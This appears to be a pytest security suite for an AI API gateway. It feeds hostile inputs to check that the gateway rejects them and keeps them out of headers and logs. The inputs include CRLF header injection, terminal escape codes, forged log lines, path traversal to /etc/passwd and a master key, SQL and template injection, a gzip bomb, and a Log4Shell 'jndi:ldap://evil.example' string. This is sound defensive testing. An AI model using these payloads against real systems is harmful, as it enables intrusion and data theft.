"""The gateway under attack: what callers write turns up in no header, no log line and no other call."""

import gzip
import json
import re

import pytest

from tests.security.conftest import Fort

EVIL = (
    "x\r\nset-cookie: a=b",
    "x\nset-cookie: a=b",
    "x\x00y",
    "\x1b[2J\x1b[31mowned",
    "deaf/m\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "deaf/../../admin",
    "deaf/m?key=1#f",
    "deaf/" + "é" * 50,
    "deaf/\u2028line",
    "2026-11-22 06:00:00,000 CRITICAL counterpoint all is lost",
)


def _post(path: str, body: bytes, key: str, *lines: str) -> bytes:
    head = [f"POST {path} HTTP/1.1", "host: x", "connection: close", f"content-length: {len(body)}"]
    head += [f"authorization: Bearer {key}", "content-type: application/json", *lines]
    return "\r\n".join([*head, "", ""]).encode("latin-1") + body


def _chat(model: str) -> bytes:
    return json.dumps({"model": model, "messages": [{"role": "user", "content": "hi"}]}).encode()


@pytest.mark.parametrize("model", EVIL)
def test_a_models_name_injects_nothing(fort: Fort, model: str) -> None:
    for path, body in {
        "/v1/chat/completions": _chat(model),
        "/v1/messages": json.dumps({**json.loads(_chat(model)), "max_tokens": 9}).encode(),
        "/v1/responses": json.dumps({"model": model, "input": "hi"}).encode(),
        "/v1/embeddings": json.dumps({"model": model, "input": "hi"}).encode(),
    }.items():
        (answer,) = fort.gateway(_post(path, body, fort.platform.key))
        assert 400 <= answer.status < 600
        assert "set-cookie" not in answer.headers
        assert answer.json, "an error in JSON"


@pytest.mark.parametrize(
    "line",
    [
        "x-request-id: a\x01b",
        "x-request-id: " + "a" * 10_000,
        "traceparent: 00-zz-zz-zz\x1b[2J",
        "x-counterpoint-session: \x1b]0;owned\x07",
        "user-agent: ${jndi:ldap://evil.example/a}",
        "accept-language: fr-\x1b[31m",
        "x-counterpoint-losses: refuse; codes=*\x0b",
    ],
)
def test_a_header_injects_nothing(fort: Fort, line: str) -> None:
    found = fort.gateway(_post("/v1/chat/completions", _chat("deaf/m"), fort.platform.key, line))
    assert len(found) == 1
    assert 400 <= found[0].status < 600
    for value in found[0].headers.values():
        assert not re.search(r"[\x00-\x1f\x7f]", value)


def test_the_log_is_ours_alone(fort: Fort) -> None:
    """Every line of it begins as ours do, and none moves the cursor of who reads it."""
    for model in EVIL:
        fort.gateway(_post("/v1/chat/completions", _chat(model), fort.platform.key))
        fort.gateway(_post("/v1/chat/completions", _chat(model), model.encode().hex()))
        fort.ask("POST", "/api/v1/providers", body=json.dumps({"name": model, "host": model}).encode())
    log = fort.log.read_text("utf-8", "replace")
    assert "\x1b[2J" not in log
    assert "\x1b[31m" not in log
    assert not re.search(r"^2026-11-22 06:00:00,000 CRITICAL", log, re.MULTILINE)
    assert not re.search(r"^set-cookie", log, re.MULTILINE)


@pytest.mark.parametrize(
    "key",
    [
        "cp-demo",
        "cp-" + "a" * 40,
        "a" * 5000,
        "' OR 1=1 --",
        "{{7*7}}",
        "cp-demo\x00",
        "Bearer cp-demo",
    ],
)
def test_guessed_keys_are_all_told_the_same(fort: Fort, key: str) -> None:
    if key == fort.platform.key:
        key = key[:-1]
    found = fort.gateway(_post("/v1/chat/completions", _chat("deaf/m"), key))
    assert len(found) == 1
    assert found[0].status in (400, 401)
    assert key not in found[0].body.decode()


def test_a_key_that_is_nearly_right_is_as_wrong_as_any(fort: Fort) -> None:
    """Keys are found by their digest: no comparison can be timed, none is told apart."""
    key = fort.platform.key
    told = set()
    for at in (len(key) - 1, len(key) // 2, 10):
        guess = key[:at] + ("x" if key[at] != "x" else "y") + key[at + 1 :]
        (answer,) = fort.gateway(_post("/v1/chat/completions", _chat("deaf/m"), guess))
        assert answer.status == 401
        told.add(answer.json["error"]["message"])
    assert len(told) == 1


def test_a_body_that_unpacks_to_more_is_not_unpacked(fort: Fort) -> None:
    bomb = gzip.compress(b" " * (64 << 20), 9)
    found = fort.gateway(_post("/v1/chat/completions", bomb, fort.platform.key, "content-encoding: gzip"))
    assert [answer.status for answer in found] == [415]


def test_a_body_that_is_too_large_is_not_read(fort: Fort) -> None:
    head = (
        f"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {fort.platform.key}\r\n"
        "content-length: 99999999999\r\n\r\n"
    )
    (answer,) = fort.gateway(head.encode())
    assert answer.status == 413
    assert (
        fort.ask("POST", "/api/v1/keys", "content-type: application/json", body=b" " * (2 << 20)).status
        == 413
    )


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\x",
        "a\x00.jsonl",
        "a\r\nset-cookie: a=b",
        "x" * 5000,
        "",
        ".",
    ],
)
def test_a_files_name_is_no_path(fort: Fort, name: str) -> None:
    boundary = "frontier"
    shown = name.replace('"', "")
    body = (
        f'--{boundary}\r\ncontent-disposition: form-data; name="purpose"\r\n\r\nbatch\r\n'
        f'--{boundary}\r\ncontent-disposition: form-data; name="file"; filename="{shown}"\r\n'
        f"content-type: application/jsonl\r\n\r\n{{}}\r\n--{boundary}--\r\n"
    ).encode("latin-1")
    head = (
        f"POST /v1/files HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: Bearer {fort.platform.key}\r\n"
        f"content-type: multipart/form-data; boundary={boundary}\r\ncontent-length: {len(body)}\r\n\r\n"
    )
    (answer,) = fort.gateway(head.encode() + body)
    assert answer.status in (200, 400, 413, 422)
    assert "set-cookie" not in answer.headers
    if answer.status == 200:
        file = answer.json["id"]
        assert re.fullmatch(r"file[-_][\w-]+", file)
    for path in (
        "/v1/files/../../data/master.key",
        "/v1/files/..%2f..%2fmaster.key/content",
        "/v1/files/%00/content",
    ):
        (answer,) = fort.gateway(
            f"GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n"
            f"authorization: Bearer {fort.platform.key}\r\n\r\n".encode()
        )
        assert answer.status in (400, 404, 405)
